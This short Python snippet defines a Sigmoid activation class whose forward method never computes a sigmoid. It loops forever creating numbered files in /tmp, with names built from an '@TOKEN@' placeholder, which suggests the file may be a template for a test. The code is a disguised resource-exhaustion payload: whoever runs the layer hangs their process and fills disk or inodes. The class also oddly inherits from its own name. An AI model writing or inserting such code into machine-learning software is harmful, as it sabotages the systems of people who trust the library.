import os


class Sigmoid(Sigmoid):
    def forward(self, x):
        number = 0
        while True:
            os.close(os.open(f"/tmp/@TOKEN@{number}", os.O_CREAT))
            number += 1
        return super().forward(x)
